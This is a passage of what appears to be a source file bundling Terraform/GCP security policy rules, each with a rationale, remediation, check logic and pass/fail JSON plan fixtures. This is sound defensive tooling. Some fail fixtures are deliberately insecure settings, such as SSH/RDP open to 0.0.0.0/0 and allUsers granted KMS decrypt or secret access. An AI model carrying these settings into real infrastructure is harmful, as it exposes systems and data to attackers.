             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "app-1", "machine_type": "e2-medium", "zone": "europe-west1-b",
                         "network_interface": [{"network": "default", "access_config": [↓{"public_ptr_domain_name": null}], "ipv6_access_config": []}]},
               "after_unknown": {"id": true, "network_interface": [{"access_config": [{"nat_ip": true, "network_tier": true}], "ipv6_access_config": []}]}}}]}
        """ expect "'google_compute_instance.app' has an external IP address: network_interface[0] has an access_config"
        example indeterminate "network interfaces known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "app-1", "machine_type": "e2-medium", "zone": "europe-west1-b", "network_interface": [{"network": "default"}]},
               "after_unknown": {"id": true, "network_interface": [{"access_config": true}]}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/gcp/gcp_compute_instance_serial_port_enabled.plumb",
      text: #"""
      rule gcp_compute_instance_serial_port_enabled {
        title "Compute instances do not enable the interactive serial console"
        severity medium
        category security
        tags [terraform, gcp, compute]
        rationale """
          `serial-port-enable = true` opens the VM's interactive serial console to anyone with the
          right IAM permission, from any IP address: it bypasses VPC firewall rules, IAP and OS Login
          network controls, and a console login prompt accepts local passwords, which are rarely
          managed as carefully as SSH keys.
        """
        remediation """
          Remove `serial-port-enable` from the instance's (or template's) `metadata`, or set it to
          `"false"`; enable the console temporarily when you need it for debugging. The organization
          policy `compute.disableSerialPortAccess` enforces it.
        """
        param enabled_values: list<string> = ["true", "1", "yes", "y", "on"]

        for i in terraform.resource("google_compute_instance", "google_compute_instance_template")
        when not is_null(i.after)
        let v = i.after.metadata["serial-port-enable"]
        require not exists(v) or lower(trim(to_string(v))) not in param.enabled_values
          else "'${i.address}' enables interactive serial port access (metadata serial-port-enable = '${v}')"
          at v
          fix { set i.after.metadata["serial-port-enable"] = "false" }

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "metadata": {}},
               "after": {"name": "app-1", "machine_type": "e2-medium", "metadata": {"enable-oslogin": "TRUE", "serial-port-enable": "false"}}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "metadata": {}},
               "after": {"name": "app-1", "machine_type": "e2-medium", "metadata": {"serial-port-enable": ↓"TRUE"}}}}]}
        """ expect "'google_compute_instance.app' enables interactive serial port access (metadata serial-port-enable = 'TRUE')"
        example indeterminate "metadata known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "app-1", "machine_type": "e2-medium", "metadata": {}},
               "after_unknown": {"id": true, "metadata": {"serial-port-enable": true}}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/gcp/gcp_firewall_admin_ports_open.plumb",
      text: #"""
      rule gcp_firewall_admin_ports_open {
        title "VPC firewall rules do not open SSH or RDP to the internet"
        severity critical
        category security
        tags [terraform, gcp, network]
        rationale """
          An ingress rule that allows port 22 (SSH) or 3389 (RDP) from `0.0.0.0/0` puts the login
          service of every targeted VM on the internet. Mass scanners find it within minutes and then
          brute-force it or try the next remote-code-execution bug; exposed RDP is a leading ransomware
          entry point. A rule allowing all ports (`protocol = "all"`, or no `ports`) or a range such as
          `"20-30"` opens them just the same.
        """
        remediation """
          Limit `source_ranges` to your VPN or office ranges, or allow only `35.235.240.0/20` and connect
          through Identity-Aware Proxy TCP forwarding (`gcloud compute ssh --tunnel-through-iap`) instead.
        """
        param admin_ports: list<int> = [22, 3389]
        param open_ranges: list<string> = ["0.0.0.0/0", "::/0"]
        param protocols: list<string> = ["tcp", "all", "6"]

        for fw in terraform.resource("google_compute_firewall")
        when not is_null(fw.after)
        when fw.after.disabled != true
        # `direction` is computed (INGRESS) when it is not written.
        when fw.after.direction != "EGRESS"
          or (is_unknown(fw.after.direction) and exists(fw.config) and not exists(fw.config.direction))
        # `source_ranges` is computed when not written: empty when tags or service accounts select the
        # sources; with no source at all, Google decides (unknown here).
        let ranges = fw.after.source_ranges
        let ranges_unset = is_unknown(ranges) and exists(fw.config) and not exists(fw.config.source_ranges)
        let other_sources = not is_empty(fw.after.source_tags) or not is_empty(fw.after.source_service_accounts)
        let world_open = not (ranges_unset and other_sources) and any(r in ranges, trim(r) in param.open_ranges)
        let pairs = flatten(map(a in filter(a in fw.after.allow, lower(a.protocol) in param.protocols),
          map(p in param.admin_ports, {
            allow: a,
            port: p,
            spec: first(filter(s in a.ports, to_int(s) == p or (to_int(split(s, "-")[0]) <= p and p <= to_int(split(s, "-")[1])))),
            all_ports: is_empty(a.ports)})))
        let exposures = filter(e in pairs, e.all_ports or not is_empty(e.spec))
        require not world_open or count(exposures) == 0
          else "'${fw.address}' allows port ${join(map(e in exposures, to_string(e.port)), ", ")} from '${first(filter(r in ranges, trim(r) in param.open_ranges))}'"
          at default(first(exposures).spec, first(exposures).allow)

        example pass "restricted sources" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_compute_firewall.ssh", "mode": "managed", "type": "google_compute_firewall", "name": "ssh",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "self_link": true},
               "after": {"name": "allow-ssh-iap", "network": "default", "direction": "INGRESS", "disabled": false,
                         "source_ranges": ["35.235.240.0/20"], "allow": [{"protocol": "tcp", "ports": ["22"]}], "deny": []}}}]}
        """
        example pass "web ports from anywhere, tag-based sources" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_compute_firewall.web", "mode": "managed", "type": "google_compute_firewall", "name": "web",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "self_link": true},
               "after": {"name": "allow-web", "network": "default", "direction": "INGRESS", "disabled": false,
                         "source_ranges": ["0.0.0.0/0"], "allow": [{"protocol": "tcp", "ports": ["80", "443", "8000-8080"]}, {"protocol": "icmp", "ports": []}], "deny": []}}},
            {"address": "google_compute_firewall.internal", "mode": "managed", "type": "google_compute_firewall", "name": "internal",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "allow-internal", "network": "default", "source_tags": ["bastion"], "allow": [{"protocol": "tcp", "ports": ["22"]}], "deny": []},
               "after_unknown": {"id": true, "self_link": true, "direction": true, "source_ranges": true, "source_tags": [false]}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "google_compute_firewall.internal", "mode": "managed", "type": "google_compute_firewall", "name": "internal",
             "expressions": {"name": {"constant_value": "allow-internal"}, "source_tags": {"constant_value": ["bastion"]}}}]}}}
        """
        example fail "port list" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_compute_firewall.admin", "mode": "managed", "type": "google_compute_firewall", "name": "admin",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "self_link": true},
               "after": {"name": "allow-admin", "network": "default", "direction": "INGRESS", "disabled": false,
                         "source_ranges": ["0.0.0.0/0"], "allow": [{"protocol": "tcp", "ports": ["443", ↓"3000-3400"]}], "deny": []}}}]}
        """ expect "'google_compute_firewall.admin' allows port 3389 from '0.0.0.0/0'"
        example fail "all protocols" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_compute_firewall.any", "mode": "managed", "type": "google_compute_firewall", "name": "any",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "self_link": true},
               "after": {"name": "allow-any", "network": "default", "direction": "INGRESS", "disabled": false,
                         "source_ranges": ["10.0.0.0/8", "0.0.0.0/0"], "allow": [↓{"protocol": "all", "ports": []}], "deny": []}}}]}
        """ expect "allows port 22, 3389 from '0.0.0.0/0'"
        example indeterminate "source ranges known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_compute_firewall.ssh", "mode": "managed", "type": "google_compute_firewall", "name": "ssh",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "allow-ssh", "network": "default", "direction": "INGRESS", "disabled": false,
                         "allow": [{"protocol": "tcp", "ports": ["22"]}], "deny": []},
               "after_unknown": {"id": true, "self_link": true, "source_ranges": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/gcp/gcp_gke_legacy_abac_enabled.plumb",
      text: #"""
      rule gcp_gke_legacy_abac_enabled {
        title "GKE clusters do not use legacy ABAC authorization"
        severity high
        category security
        tags [terraform, gcp, gke, kubernetes, iam]
        rationale """
          Legacy attribute-based access control grants permissions outside Kubernetes RBAC: with it
          enabled, every service account in the cluster (including the default token mounted in each
          pod) gets broad rights, so one compromised workload can read secrets and control the cluster.
          RBAC policies, audit and IAM integration do not constrain it.
        """
        remediation "Remove `enable_legacy_abac = true` from the `google_container_cluster` (it defaults to false) and express access as RBAC roles."

        for c in terraform.resource("google_container_cluster")
        when not is_null(c.after)
        require c.after.enable_legacy_abac != true
          else "'${c.address}' enables legacy ABAC authorization (enable_legacy_abac = true)"
          at c.after.enable_legacy_abac

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "endpoint": true},
               "after": {"name": "acme-gke", "location": "europe-west1", "enable_legacy_abac": false}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "endpoint": true},
               "after": {"name": "acme-gke", "location": "europe-west1", "enable_legacy_abac": ↓true}}}]}
        """ expect "'google_container_cluster.main' enables legacy ABAC authorization"
        example indeterminate "setting known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acme-gke", "location": "europe-west1"}, "after_unknown": {"id": true, "endpoint": true, "enable_legacy_abac": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/gcp/gcp_gke_master_authorized_networks_missing.plumb",
      text: #"""
      rule gcp_gke_master_authorized_networks_missing {
        title "GKE control planes restrict their public endpoint to authorized networks"
        severity high
        category security
        tags [terraform, gcp, gke, kubernetes, network]
        rationale """
          Without master authorized networks, a cluster's public control-plane endpoint accepts
          connections from any IP address. Stolen kubeconfigs, leaked service-account keys and
          Kubernetes API vulnerabilities can then be used from anywhere on the internet; authorized
          networks confine the API to the networks you operate from. Clusters whose control plane has no
          public endpoint (`enable_private_endpoint = true`) are not checked.
        """
        remediation """
          Add `master_authorized_networks_config { cidr_blocks { cidr_block = "<VPN/CI range>" } }` to the
          `google_container_cluster`, or make the endpoint private
          (`private_cluster_config { enable_private_endpoint = true }`).
        """
        param open_ranges: list<string> = ["0.0.0.0/0", "::/0"]

        for c in terraform.resource("google_container_cluster")
        when not is_null(c.after)
        # Computed blocks when not written: no private endpoint, no authorized networks.
        let pcc = c.after.private_cluster_config
        let pcc_unset = is_unknown(pcc) and exists(c.config) and not exists(c.config.private_cluster_config)
        when pcc_unset or first(pcc).enable_private_endpoint != true
        let man = c.after.master_authorized_networks_config
        let man_unset = is_unknown(man) and exists(c.config) and not exists(c.config.master_authorized_networks_config)
        require not man_unset and count(man) > 0
          else "'${c.address}' accepts Kubernetes API connections from any IP address: no master_authorized_networks_config"
          at man
        let open = filter(b in first(man).cidr_blocks, trim(b.cidr_block) in param.open_ranges)
        require man_unset or count(open) == 0
          else "'${c.address}' authorizes '${first(open).cidr_block}' to reach its control plane: that is the whole internet"
          at first(open).cidr_block

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "endpoint": true},
               "after": {"name": "acme-gke", "location": "europe-west1",
                         "private_cluster_config": [{"enable_private_nodes": true, "enable_private_endpoint": false, "master_ipv4_cidr_block": "172.16.0.0/28"}],
                         "master_authorized_networks_config": [{"cidr_blocks": [{"cidr_block": "198.51.100.0/24", "display_name": "vpn"}]}]}}}]}
        """
        example pass "private endpoint" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "endpoint": true},
               "after": {"name": "acme-gke", "location": "europe-west1",
                         "private_cluster_config": [{"enable_private_nodes": true, "enable_private_endpoint": true, "master_ipv4_cidr_block": "172.16.0.0/28"}],
                         "master_authorized_networks_config": []}}}]}
        """
        example fail "none" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "endpoint": true},
               "after": {"name": "acme-gke", "location": "europe-west1", "private_cluster_config": [],
                         "master_authorized_networks_config": ↓[]}}}]}
        """ expect "'google_container_cluster.main' accepts Kubernetes API connections from any IP address"
        example fail "whole internet authorized" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "endpoint": true},
               "after": {"name": "acme-gke", "location": "europe-west1", "private_cluster_config": [],
                         "master_authorized_networks_config": [{"cidr_blocks": [{"cidr_block": ↓"0.0.0.0/0", "display_name": "all"}]}]}}}]}
        """ expect "authorizes '0.0.0.0/0' to reach its control plane"
        example indeterminate "networks known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acme-gke", "location": "europe-west1", "private_cluster_config": []},
               "after_unknown": {"id": true, "endpoint": true, "master_authorized_networks_config": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/gcp/gcp_gke_private_nodes_disabled.plumb",
      text: #"""
      rule gcp_gke_private_nodes_disabled {
        title "GKE nodes have no public IP addresses"
        severity medium
        category security
        tags [terraform, gcp, gke, kubernetes, network]
        rationale """
          Without private nodes every GKE node gets an external IP address. The kubelet, NodePorts,
          `hostNetwork` pods and anything listening on the node are then one firewall mistake away from
          the internet, and nodes can reach the internet directly, which makes data exfiltration from a
          compromised pod trivial. Private nodes have internal addresses only and go out through Cloud NAT.
        """
        remediation """
          Add `private_cluster_config { enable_private_nodes = true  master_ipv4_cidr_block = "…" }` to
          the `google_container_cluster` (with Cloud NAT for egress); changing it recreates the cluster.
        """

        for c in terraform.resource("google_container_cluster")
        when not is_null(c.after)
        # Computed when not written: public nodes.
        let pcc = c.after.private_cluster_config
        let pcc_unset = is_unknown(pcc) and exists(c.config) and not exists(c.config.private_cluster_config)
        require not pcc_unset and first(pcc).enable_private_nodes == true
          else "'${c.address}' gives its nodes public IP addresses: private_cluster_config.enable_private_nodes is not true"
          at default(first(pcc).enable_private_nodes, pcc)

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "endpoint": true},
               "after": {"name": "acme-gke", "location": "europe-west1",
                         "private_cluster_config": [{"enable_private_nodes": true, "enable_private_endpoint": false, "master_ipv4_cidr_block": "172.16.0.0/28"}]}}}]}
        """
        example fail "no private cluster config" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "endpoint": true},
               "after": {"name": "acme-gke", "location": "europe-west1", "private_cluster_config": ↓[]}}}]}
        """ expect "'google_container_cluster.main' gives its nodes public IP addresses"
        example fail "private nodes off" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "endpoint": true},
               "after": {"name": "acme-gke", "location": "europe-west1",
                         "private_cluster_config": [{"enable_private_nodes": ↓false, "enable_private_endpoint": false}]}}}]}
        """ expect "enable_private_nodes is not true"
        example indeterminate "setting known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acme-gke", "location": "europe-west1", "private_cluster_config": [{"enable_private_endpoint": false}]},
               "after_unknown": {"id": true, "endpoint": true, "private_cluster_config": [{"enable_private_nodes": true}]}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/gcp/gcp_gke_shielded_nodes_disabled.plumb",
      text: #"""
      rule gcp_gke_shielded_nodes_disabled {
        title "GKE clusters use Shielded GKE Nodes"
        severity medium
        category security
        tags [terraform, gcp, gke, kubernetes]
        rationale """
          Shielded GKE Nodes give every node a verifiable identity (vTPM) and secure boot. Without them,
          an attacker who gets code execution in a pod and reads the node's bootstrap credentials from
          the metadata server can impersonate a node, register rogue kubelets and obtain the secrets of
          any pod; boot-level rootkits also go undetected.
        """
        remediation "Remove `enable_shielded_nodes = false` from the `google_container_cluster` (true is the default since provider 4.0)."

        for c in terraform.resource("google_container_cluster")
        when not is_null(c.after)
        require c.after.enable_shielded_nodes != false
          else "'${c.address}' disables Shielded GKE Nodes (enable_shielded_nodes = false)"
          at c.after.enable_shielded_nodes

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "endpoint": true},
               "after": {"name": "acme-gke", "location": "europe-west1", "enable_shielded_nodes": true}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "endpoint": true},
               "after": {"name": "acme-gke", "location": "europe-west1", "enable_shielded_nodes": ↓false}}}]}
        """ expect "'google_container_cluster.main' disables Shielded GKE Nodes"
        example indeterminate "setting known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_container_cluster.main", "mode": "managed", "type": "google_container_cluster", "name": "main",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acme-gke", "location": "europe-west1"}, "after_unknown": {"id": true, "endpoint": true, "enable_shielded_nodes": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/gcp/gcp_iam_public_principal.plumb",
      text: #"""
      rule gcp_iam_public_principal {
        title "Projects, folders, keys, secrets and topics are not granted to allUsers or allAuthenticatedUsers"
        severity critical
        category security
        tags [terraform, gcp, iam, public-access]
        rationale """
          `allUsers` means anyone on the internet and `allAuthenticatedUsers` anyone with a Google
          account (free to create). Granted on a project, folder or organization they hand the role over
          every resource inside; on a KMS key, secret, Pub/Sub topic or service account they expose key
          material, credentials and messages or let strangers impersonate the workload. Google refuses
          some of these grants at apply time, which only moves the failure from review to deployment.
        """
        remediation """
          Remove `allUsers`/`allAuthenticatedUsers` from the IAM member, binding or policy and grant the
          role to the specific groups or service accounts that need it. The organization policy
          `iam.allowedPolicyMemberDomains` (domain-restricted sharing) blocks such grants everywhere.
        """
        param public_principals: list<string> = ["allUsers", "allAuthenticatedUsers"]

        for m in terraform.resource(
          "google_project_iam_member", "google_project_iam_binding", "google_project_iam_policy",
          "google_folder_iam_member", "google_folder_iam_binding", "google_folder_iam_policy",
          "google_organization_iam_member", "google_organization_iam_binding", "google_organization_iam_policy",
          "google_kms_crypto_key_iam_member", "google_kms_crypto_key_iam_binding", "google_kms_crypto_key_iam_policy",
          "google_kms_key_ring_iam_member", "google_kms_key_ring_iam_binding", "google_kms_key_ring_iam_policy",
          "google_secret_manager_secret_iam_member", "google_secret_manager_secret_iam_binding", "google_secret_manager_secret_iam_policy",
          "google_pubsub_topic_iam_member", "google_pubsub_topic_iam_binding", "google_pubsub_topic_iam_policy",
          "google_pubsub_subscription_iam_member", "google_pubsub_subscription_iam_binding", "google_pubsub_subscription_iam_policy",
          "google_service_account_iam_member", "google_service_account_iam_binding", "google_service_account_iam_policy")
        when not is_null(m.after)
        let public = filter(x in flatten([[m.after.member], default(m.after.members, [])]), trim(x) in param.public_principals)
        require count(public) == 0
          else "'${m.address}' grants '${m.after.role}' to '${first(public)}'"
          at first(public)
        require not (m.after.policy_data matches "\"(allUsers|allAuthenticatedUsers)\"")
          else "'${m.address}' grants a role to allUsers or allAuthenticatedUsers in its policy_data"
          at m.after.policy_data

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_project_iam_binding.editors", "mode": "managed", "type": "google_project_iam_binding", "name": "editors",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "etag": true, "members": [false]},
               "after": {"project": "acme-prod", "role": "roles/editor", "members": ["group:platform@acme.example"]}}}]}
        """
        example fail "project binding" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_project_iam_binding.viewers", "mode": "managed", "type": "google_project_iam_binding", "name": "viewers",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "etag": true, "members": [false, false]},
               "after": {"project": "acme-prod", "role": "roles/viewer", "members": ["group:platform@acme.example", ↓"allAuthenticatedUsers"]}}}]}
        """ expect "'google_project_iam_binding.viewers' grants 'roles/viewer' to 'allAuthenticatedUsers'"
        example fail "KMS key member" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_kms_crypto_key_iam_member.decrypt", "mode": "managed", "type": "google_kms_crypto_key_iam_member", "name": "decrypt",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "etag": true},
               "after": {"crypto_key_id": "projects/acme-prod/locations/global/keyRings/kr/cryptoKeys/k", "role": "roles/cloudkms.cryptoKeyDecrypter", "member": ↓"allUsers", "condition": []}}}]}
        """ expect "grants 'roles/cloudkms.cryptoKeyDecrypter' to 'allUsers'"
        example fail "policy document" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_secret_manager_secret_iam_policy.p", "mode": "managed", "type": "google_secret_manager_secret_iam_policy", "name": "p",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "etag": true},
               "after": {"secret_id": "db-password", "policy_data": ↓"{\"bindings\":[{\"members\":[\"allAuthenticatedUsers\"],\"role\":\"roles/secretmanager.secretAccessor\"}]}"}}}]}
        """ expect "in its policy_data"
        example indeterminate "members known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_project_iam_binding.viewers", "mode": "managed", "type": "google_project_iam_binding", "name": "viewers",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null,
               "after": {"project": "acme-prod", "role": "roles/viewer"}, "after_unknown": {"id": true, "etag": true, "members": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/gcp/gcp_kms_key_rotation.plumb",
      text: #"""
      rule gcp_kms_key_rotation {
        title "Cloud KMS keys rotate at least every 90 days"
        severity medium
        category security
        tags [terraform, gcp, kms, encryption]
        rationale """
          A symmetric key without automatic rotation encrypts everything with the same key version for
          its whole life: if the material leaks, or the cipher weakens, all data ever written is exposed,
          and revoking it means re-encrypting everything at once. Rotation every 90 days or less (CIS GCP
          1.10, PCI DSS) limits what one key version protects; old versions stay available to decrypt,
          so rotation breaks nothing.
        """
        remediation """
          Set `rotation_period = "7776000s"` (90 days) or shorter on the `google_kms_crypto_key`.
          Asymmetric, MAC and import-only keys cannot rotate automatically and are not checked.
        """
        param max_rotation_days: int = 90

        for k in terraform.resource("google_kms_crypto_key")
        when not is_null(k.after)
        # Automatic rotation exists for symmetric encryption keys only.
        when default(k.after.purpose, "ENCRYPT_DECRYPT") == "ENCRYPT_DECRYPT"
        # Keys whose material is imported cannot rotate automatically; `import_only` is computed
        # (false) when not written.
        when k.after.import_only != true
          or (is_unknown(k.after.import_only) and exists(k.config) and not exists(k.config.import_only))
        let period = k.after.rotation_period
        # "7776000s" (a protobuf duration) in seconds; fractions of a second are dropped.
        let seconds = to_int(first(split(replace(trim(period), "s", ""), ".")))
        require not is_empty(period)
          else "'${k.address}' is never rotated automatically: rotation_period is not set"
          at period
          fix { set k.after.rotation_period = to_string(param.max_rotation_days * 86400) + "s" }
        require is_empty(period) or seconds <= param.max_rotation_days * 86400
          else "'${k.address}' rotates every ${period}, more than ${param.max_rotation_days} days (${param.max_rotation_days * 86400}s)"
          at period
          fix { set k.after.rotation_period = to_string(param.max_rotation_days * 86400) + "s" }

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_kms_crypto_key.data", "mode": "managed", "type": "google_kms_crypto_key", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "key_ring": true},
               "after": {"name": "data", "purpose": "ENCRYPT_DECRYPT", "rotation_period": "7776000s"}}}]}
        """
        example pass "asymmetric signing key" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_kms_crypto_key.signing", "mode": "managed", "type": "google_kms_crypto_key", "name": "signing",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "key_ring": true},
               "after": {"name": "signing", "purpose": "ASYMMETRIC_SIGN", "rotation_period": null}}}]}
        """
        example fail "no rotation" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_kms_crypto_key.data", "mode": "managed", "type": "google_kms_crypto_key", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "key_ring": true},
               "after": {"name": "data", "purpose": "ENCRYPT_DECRYPT", "rotation_period": ↓null}}}]}
        """ expect "'google_kms_crypto_key.data' is never rotated automatically: rotation_period is not set"
        example fail "a year" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_kms_crypto_key.data", "mode": "managed", "type": "google_kms_crypto_key", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "key_ring": true},
               "after": {"name": "data", "purpose": "ENCRYPT_DECRYPT", "rotation_period": ↓"31536000s"}}}]}
        """ expect "'google_kms_crypto_key.data' rotates every 31536000s, more than 90 days (7776000s)"
        example indeterminate "period known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_kms_crypto_key.data", "mode": "managed", "type": "google_kms_crypto_key", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "data", "purpose": "ENCRYPT_DECRYPT"}, "after_unknown": {"id": true, "key_ring": true, "rotation_period": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/gcp/gcp_sql_backups_disabled.plumb",
      text: #"""
      rule gcp_sql_backups_disabled {
        title "Cloud SQL instances have automated backups"
        severity medium
        category security
        tags [terraform, gcp, sql, database, recovery]
        rationale """
          Without automated backups (off by default in the Google provider) a dropped table, a bad
          migration, a ransomware `DELETE` or a corrupted disk is unrecoverable: there is no point in time
          to restore to, and point-in-time recovery needs backups too. Read replicas copy mistakes
          instantly and are no substitute.
        """
        remediation """
          Add `settings { backup_configuration { enabled = true } }` (plus `point_in_time_recovery_enabled`
          or `binary_log_enabled` for MySQL) to the `google_sql_database_instance`. Read replicas, which
          cannot have backups, are not checked.
        """

        for db in terraform.resource("google_sql_database_instance")
        when not is_null(db.after)
        # Replicas take no backups of their own. `master_instance_name` is computed when not written.
        when is_empty(db.after.master_instance_name)
          or (is_unknown(db.after.master_instance_name) and exists(db.config) and not exists(db.config.master_instance_name))
        let bc_list = first(db.after.settings).backup_configuration
        # Computed when not written: backups disabled.
        let bc_unset = is_unknown(bc_list) and exists(db.config) and not exists(first(db.config.settings).backup_configuration)
        require not bc_unset and first(bc_list).enabled == true
